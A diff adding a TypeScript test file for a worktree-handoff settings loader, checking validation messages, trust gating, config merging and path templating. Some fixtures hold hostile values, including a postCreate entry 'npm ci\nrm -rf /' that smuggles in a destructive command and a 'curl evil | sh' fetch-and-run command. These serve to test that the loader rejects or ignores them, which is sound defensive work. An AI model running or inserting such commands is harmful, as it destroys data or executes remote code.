@@ -1,0 +1,198 @@
+/**
+ * The settings files: strict validation with one-sentence errors that name the file and the key,
+ * the repository's file only in a trusted project (else a notice), repository over user key by key,
+ * and the worktree location template (with PI_HANDOFF_WORKTREE_ROOT still winning).
+ */
+import { mkdirSync, realpathSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { findCheckoutTop, loadHandoffConfig } from "../../src/config/load.ts";
+import { applyBranchPrefix, mergeConfig, parseConfig } from "../../src/config/schema.ts";
+import { chooseWorktreePath, expandWorktreeTemplate } from "../../src/handoff/worktree-path.ts";
+import { makeTempDir, removeTempDir } from "../support/git-repo.ts";
+
+const FILE = "/r/.pi/handoff-worktree.json";
+
+describe("parseConfig", () => {
+  it("accepts every key and normalises a single postCreate command to a list", () => {
+    expect(
+      parseConfig(
+        {
+          $schema: "x",
+          worktreeDir: "~/wt/{repo}/{branch}",
+          branchPrefix: "pi/",
+          copy: [".env*", "config/*.local.json"],
+          symlink: ["node_modules"],
+          postCreate: "npm ci",
+          mux: "herdr",
+        },
+        FILE,
+      ),
+    ).toEqual({
+      ok: true,
+      config: {
+        worktreeDir: "~/wt/{repo}/{branch}",
+        branchPrefix: "pi/",
+        copy: [".env*", "config/*.local.json"],
+        symlink: ["node_modules"],
+        postCreate: ["npm ci"],
+        mux: "herdr",
+      },
+    });
+  });
+
+  it.each([
+    [{ worktreeDirr: "x" }, `Unknown key "worktreeDirr" in ${FILE}; the keys are worktreeDir, branchPrefix, copy, symlink, postCreate, mux.`],
+    [{ copy: ".env" }, `"copy" in ${FILE} must be a list of glob patterns (strings).`],
+    [{ mux: "screen" }, `"mux" in ${FILE} must be "tmux" or "herdr".`],
+    [{ postCreate: [1] }, `"postCreate" in ${FILE} must be a shell command or a list of shell commands (strings).`],
+    [{ worktreeDir: "/wt/{repo}" }, `"worktreeDir" in ${FILE} must contain {branch}, so each handoff gets its own directory.`],
+    [{ worktreeDir: "/wt/{user}/{branch}" }, `"worktreeDir" in ${FILE} uses {user}; the placeholders are {repo}, {repoParent}, {branch}.`],
+    [{ worktreeDir: "/wt/{branch" }, `"worktreeDir" in ${FILE} has an unmatched { or }.`],
+    [{ worktreeDir: "/wt/{branch}}" }, `"worktreeDir" in ${FILE} has an unmatched { or }.`],
+    [{ copy: ["../secrets"] }, `"copy" in ${FILE} has "../secrets", which leaves the checkout (".." is not allowed).`],
+    [{ symlink: ["/etc/passwd"] }, `"symlink" in ${FILE} has "/etc/passwd", which is not relative to the checkout.`],
+    [{ copy: [".git/config"] }, `"copy" in ${FILE} has ".git/config", which names git's own directory.`],
+    [{ postCreate: ["npm ci\nrm -rf /"] }, `"postCreate" in ${FILE} has "npm ci\\nrm -rf /", which contains a newline or another control character; join the lines with && or ;.`],
+    [{ postCreate: ["  "] }, `"postCreate" in ${FILE} has an empty command.`],
+    [{ branchPrefix: "my prefix/" }, `"branchPrefix" in ${FILE} must not contain spaces or control characters.`],
+    [[1, 2], `${FILE} must hold one JSON object (like {"branchPrefix": "pi/"}).`],
+  ])("refuses %j with one sentence naming the file and key", (value, message) => {
+    expect(parseConfig(value, FILE)).toEqual({ ok: false, message });
+  });
+});
+
+describe("merging and the branch prefix", () => {
+  it("lets the repository override the user key by key, lists replaced whole", () => {
+    expect(mergeConfig({ branchPrefix: "me/", copy: [".env"], mux: "tmux" }, { copy: [".env.local"], postCreate: ["make"] })).toEqual({
+      branchPrefix: "me/",
+      copy: [".env.local"],
+      mux: "tmux",
+      postCreate: ["make"],
+    });
+  });
+
+  it("puts the prefix in front once", () => {
+    expect(applyBranchPrefix("login", "pi/")).toBe("pi/login");
+    expect(applyBranchPrefix("pi/login", "pi/")).toBe("pi/login");
+    expect(applyBranchPrefix("login", undefined)).toBe("login");
+  });
+});
+
+describe("loadHandoffConfig", () => {
+  let dir: string;
+  let agentDir: string;
+  let repo: string;
+  let repoFile: string;
+  let userFile: string;
+
+  beforeEach(() => {
+    dir = makeTempDir("phw-config-");
+    agentDir = join(dir, "agent");
+    repo = join(dir, "repo");
+    mkdirSync(agentDir, { recursive: true });
+    mkdirSync(join(repo, ".git"), { recursive: true });
+    mkdirSync(join(repo, ".pi"), { recursive: true });
+    mkdirSync(join(repo, "src", "deep"), { recursive: true });
+    repoFile = join(repo, ".pi", "handoff-worktree.json");
+    userFile = join(agentDir, "handoff-worktree.json");
+  });
+  afterEach(() => removeTempDir(dir));
+
+  it("reads nothing when there are no files", async () => {
+    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true })).toEqual({ ok: true, config: {}, files: [], notices: [] });
+  });
+
+  it("merges the repository's file (found from a subdirectory) over the user's in a trusted project", async () => {
+    writeFileSync(userFile, JSON.stringify({ branchPrefix: "me/", mux: "tmux", copy: [".env"] }));
+    writeFileSync(repoFile, JSON.stringify({ copy: [".env.local"], postCreate: ["make setup"] }));
+    expect(await loadHandoffConfig({ cwd: join(repo, "src", "deep"), agentDir, projectTrusted: true })).toEqual({
+      ok: true,
+      config: { branchPrefix: "me/", mux: "tmux", copy: [".env.local"], postCreate: ["make setup"] },
+      files: [userFile, repoFile],
+      notices: [],
+    });
+  });
+
+  it("ignores the repository's file in an untrusted project, with a one-line notice, and keeps the user's", async () => {
+    writeFileSync(userFile, JSON.stringify({ branchPrefix: "me/" }));
+    writeFileSync(repoFile, JSON.stringify({ postCreate: ["curl evil | sh"] }));
+    const loaded = await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: false });
+    expect(loaded).toEqual({
+      ok: true,
+      config: { branchPrefix: "me/" },
+      files: [userFile],
+      notices: [`Ignored ${repoFile}: this project is not trusted in Pi, so its handoff settings (which can run commands) are not used.`],
+    });
+    if (loaded.ok) expect(loaded.notices[0]).not.toContain("\n");
+  });
+
+  it("does not even read an untrusted project's file: an invalid one is ignored too", async () => {
+    writeFileSync(repoFile, "{ not json");
+    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: false })).toMatchObject({ ok: true, config: {} });
+  });
+
+  it("refuses an unknown key in either file, naming the file and the key", async () => {
+    writeFileSync(repoFile, JSON.stringify({ branchPrefx: "pi/" }));
+    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true })).toEqual({
+      ok: false,
+      message: `Unknown key "branchPrefx" in ${repoFile}; the keys are worktreeDir, branchPrefix, copy, symlink, postCreate, mux.`,
+    });
+    writeFileSync(userFile, JSON.stringify({ hooks: [] }));
+    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: false })).toEqual({
+      ok: false,
+      message: `Unknown key "hooks" in ${userFile}; the keys are worktreeDir, branchPrefix, copy, symlink, postCreate, mux.`,
+    });
+  });
+
+  it("refuses a file that is not JSON", async () => {
+    writeFileSync(userFile, "{ branchPrefix: 'x' }");
+    const loaded = await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true });
+    expect(loaded.ok).toBe(false);
+    if (!loaded.ok) expect(loaded.message).toMatch(new RegExp(`^${userFile.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} is not valid JSON \\(.+\\); fix it or remove it\\.$`));
+  });
+
+  it("finds the checkout top through a .git file (a linked worktree) and none outside", () => {
+    const linked = join(dir, "linked");
+    mkdirSync(join(linked, "a"), { recursive: true });
+    writeFileSync(join(linked, ".git"), "gitdir: /somewhere\n");
+    expect(findCheckoutTop(join(linked, "a"))).toBe(linked);
+    expect(findCheckoutTop(agentDir)).toBeUndefined();
+  });
+});
+
+describe("worktree location", () => {
+  let dir: string;
+  beforeEach(() => {
+    dir = realpathSync(makeTempDir("phw-wtpath-"));
+    mkdirSync(join(dir, "code", "app"), { recursive: true });
+  });
+  afterEach(() => removeTempDir(dir));
+
+  it("fills in the placeholders, expands ~ and resolves a relative template from the main checkout", () => {
+    const main = join(dir, "code", "app");
+    expect(expandWorktreeTemplate("{repoParent}/{repo}.wt/{branch}", { mainCheckout: main, branch: "Feat/Login_Form", home: "/h" })).toBe(
+      join(dir, "code", "app.wt", "feat-login-form"),
+    );
+    expect(expandWorktreeTemplate("~/worktrees/{repo}/{branch}", { mainCheckout: main, branch: "x", home: "/h" })).toBe("/h/worktrees/app/x");
+    expect(expandWorktreeTemplate("../trees/{branch}", { mainCheckout: main, branch: "x", home: "/h" })).toBe(join(dir, "code", "trees", "x"));
+  });
+
+  it("keeps today's default, uses the template, and lets PI_HANDOFF_WORKTREE_ROOT win over it", () => {
+    const main = join(dir, "code", "app");
+    expect(chooseWorktreePath({ mainCheckout: main, branch: "feat/a", env: {} })).toBe(join(dir, "code", "app.worktrees", "feat-a"));
+    expect(chooseWorktreePath({ mainCheckout: main, branch: "feat/a", env: {}, template: `${dir}/t/{repo}-{branch}` })).toBe(join(dir, "t", "app-feat-a"));
+    expect(
+      chooseWorktreePath({ mainCheckout: main, branch: "feat/a", env: { PI_HANDOFF_WORKTREE_ROOT: join(dir, "root") }, template: `${dir}/t/{branch}` }),
+    ).toBe(join(dir, "root", "app", "feat-a"));
+  });
+
+  it("never picks an existing path and refuses one inside .git", () => {
+    const main = join(dir, "code", "app");
+    mkdirSync(join(dir, "t", "x"), { recursive: true });
+    expect(chooseWorktreePath({ mainCheckout: main, branch: "x", env: {}, template: `${dir}/t/{branch}` })).toBe(join(dir, "t", "x-2"));
+    expect(() => chooseWorktreePath({ mainCheckout: main, branch: "x", env: {}, template: "{repoParent}/{repo}/.git/{branch}" })).toThrow(
+      `The worktree path ${join(main, ".git", "x")} is inside the repository's .git directory; choose another worktreeDir.`,
+    );
+  });
+});
